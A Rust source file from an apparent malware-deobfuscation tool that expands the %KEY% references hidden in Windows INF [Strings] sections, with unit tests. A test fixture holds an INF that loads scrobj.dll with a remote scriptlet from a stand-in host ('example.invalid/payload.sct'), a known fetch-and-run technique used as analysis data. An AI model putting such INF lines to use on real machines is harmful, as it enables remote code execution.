use pest::Parser;

use super::{
    Assignment, CmdParser, DeobfuscationResult, Dialect, NEWLINE, Pair, ParserResult, Resolver,
    Rule, SymbolTable, batch::push_unique, check_rule, unexpected_token,
};
use crate::Config;

#[derive(Debug, Clone, PartialEq)]
enum InfLine {
    Section(String),
    Entry { key: String, value: String },
    Text,
}

fn scan_inf(input: &str) -> ParserResult<Vec<(String, InfLine)>> {
    let mut pairs = CmdParser::parse(Rule::inf_file, input)?;
    let Some(file) = pairs.next() else {
        return Ok(Vec::new());
    };

    let mut lines = Vec::new();
    for token in file.into_inner() {
        let text = token.as_str().to_string();
        let line = match token.as_rule() {
            Rule::EOI => break,
            Rule::section_header => InfLine::Section(section_name(token)),
            Rule::inf_entry => entry(token),
            Rule::inf_text => InfLine::Text,
            _ => unexpected_token!(token),
        };
        lines.push((text, line));
    }
    Ok(lines)
}

fn section_name(token: Pair) -> String {
    check_rule!(token, Rule::section_header);
    token
        .into_inner()
        .next()
        .map(|name| name.as_str().trim().to_string())
        .unwrap_or_default()
}

fn entry(token: Pair) -> InfLine {
    check_rule!(token, Rule::inf_entry);
    let mut key = "";
    let mut value = "";
    for part in token.into_inner() {
        match part.as_rule() {
            Rule::entry_key => key = part.as_str(),
            Rule::entry_value => value = part.as_str(),
            _ => unexpected_token!(part),
        }
    }
    InfLine::Entry {
        key: key.to_string(),
        value: value.to_string(),
    }
}

fn is_strings_section(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    name == "strings" || name.starts_with("strings.")
}

/// Trims a string value and removes one layer of surrounding quotes.
fn unquote_value(value: &str) -> &str {
    let value = value.trim();
    ['"', '\'']
        .iter()
        .find_map(|quote| {
            value
                .strip_prefix(*quote)
                .and_then(|inner| inner.strip_suffix(*quote))
        })
        .unwrap_or(value)
}

/// Deobfuscates INF files whose payload hides behind `[Strings]` keys.
///
/// All definitions are collected first, INF strings are visible from every
/// line. The output is the file without its strings sections, every `%KEY%`
/// replaced by its value.
#[derive(Debug, Clone, Default)]
pub struct InfSession {
    config: Config,
}

impl InfSession {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with_config(mut self, config: Config) -> Self {
        self.config = config;
        self
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    pub fn safe_eval(&self, input: &str) -> String {
        self.deobfuscate(input).output().to_string()
    }

    /// # Examples
    ///
    /// ```rust
    /// use lnk_deobf::InfSession;
    ///
    /// let inf = "[Run]\n%Cmd% %Arg%\n[Strings]\nCmd = \"ie4uinit.exe\"\nArg = -BaseSettings\n";
    /// assert_eq!(InfSession::new().safe_eval(inf), "[Run]\nie4uinit.exe -BaseSettings");
    /// ```
    pub fn deobfuscate(&self, input: &str) -> DeobfuscationResult {
        let mut errors = Vec::new();
        let lines = match scan_inf(input) {
            Ok(lines) => lines,
            Err(err) => {
                log::warn!("{err}");
                errors.push(err);
                input
                    .lines()
                    .map(|line| (line.to_string(), InfLine::Text))
                    .collect()
            }
        };

        let mut table = if self.config.well_known {
            SymbolTable::well_known(Dialect::Inf)
        } else {
            SymbolTable::new()
        };
        let mut assignments = Vec::new();
        let mut in_strings = false;
        for (_, line) in lines.iter() {
            match line {
                InfLine::Section(name) => in_strings = is_strings_section(name),
                InfLine::Entry { key, value } if in_strings || !self.config.inf_strings_only => {
                    let assignment = Assignment::new(key, unquote_value(value), assignments.len());
                    log::debug!("String #{}: {}", assignment.source_order, assignment);
                    table.define(&assignment);
                    assignments.push(assignment);
                }
                _ => {}
            }
        }

        let mut resolver = Resolver::new(&table, Dialect::Inf).with_undefined(self.config.undefined);
        let mut rendered = Vec::new();
        let mut cyclic = false;
        in_strings = false;
        for (text, line) in lines.iter() {
            match line {
                InfLine::Section(name) => {
                    in_strings = is_strings_section(name);
                    if in_strings {
                        continue;
                    }
                }
                _ if in_strings => continue,
                InfLine::Entry { .. } if !self.config.inf_strings_only => continue,
                _ => {}
            }
            let expanded = resolver.expand_str(text);
            cyclic |= expanded.cyclic;
            rendered.push(expanded.value);
        }
        for err in resolver.take_errors() {
            push_unique(&mut errors, err);
        }

        let output = rendered.join(NEWLINE).trim_end().to_string();
        DeobfuscationResult::new(output, assignments, errors, cyclic)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::DeobfError;

    const SAMPLE: &str = "[version]\r
signature=$chicago$\r
\r
[DefaultInstall_SingleUser]\r
UnRegisterOCXs=UnRegisterOCXSection\r
\r
[UnRegisterOCXSection]\r
%11%\\scrobj.dll,NI,%Url%\r
\r
[Strings]\r
Url = \"http://%Host%/%File%\"\r
Host = 'example.invalid'\r
File=%Stem%.sct\r
Stem=payload\r
";

    #[test]
    fn strings_section() {
        let result = InfSession::new().deobfuscate(SAMPLE);
        assert_eq!(
            result.output(),
            "[version]\nsignature=$chicago$\n\n[DefaultInstall_SingleUser]\n\
             UnRegisterOCXs=UnRegisterOCXSection\n\n[UnRegisterOCXSection]\n\
             \\scrobj.dll,NI,http://example.invalid/payload.sct"
        );
        assert_eq!(result.assignments().len(), 4);
        assert_eq!(result.assignments()[1], Assignment::new("Host", "example.invalid", 1));
        assert_eq!(
            result.errors(),
            &[DeobfError::UnresolvedReference("11".to_string())]
        );
    }

    #[test]
    fn directory_ids() {
        let session = InfSession::new().with_config(Config::default().with_well_known(true));
        assert!(
            session
                .safe_eval(SAMPLE)
                .ends_with(r"C:\Windows\System32\scrobj.dll,NI,http://example.invalid/payload.sct")
        );
    }

    #[test]
    fn all_sections() {
        let session = InfSession::new().with_config(Config::default().with_inf_strings_only(false));
        let result = session.deobfuscate("[A]\nCmd=ie4uinit\n[B]\n%cmd%.exe -%Mode%\nMode=BaseSettings");
        assert_eq!(result.output(), "[A]\n[B]\nie4uinit.exe -BaseSettings");
    }

    #[test]
    fn escapes_and_cycles() {
        let result = InfSession::new()
            .deobfuscate("[Run]\n100%% %A%\n[strings.0409]\nA=\"%B%\"\nB=%A%x\n");
        assert_eq!(result.output(), "[Run]\n100% x");
        assert!(result.is_cyclic());
    }

    #[test]
    fn quotes() {
        assert_eq!(unquote_value(" \"a b\" "), "a b");
        assert_eq!(unquote_value("'a'"), "a");
        assert_eq!(unquote_value("\"a'"), "\"a'");
        assert_eq!(unquote_value("\""), "\"");
    }
}
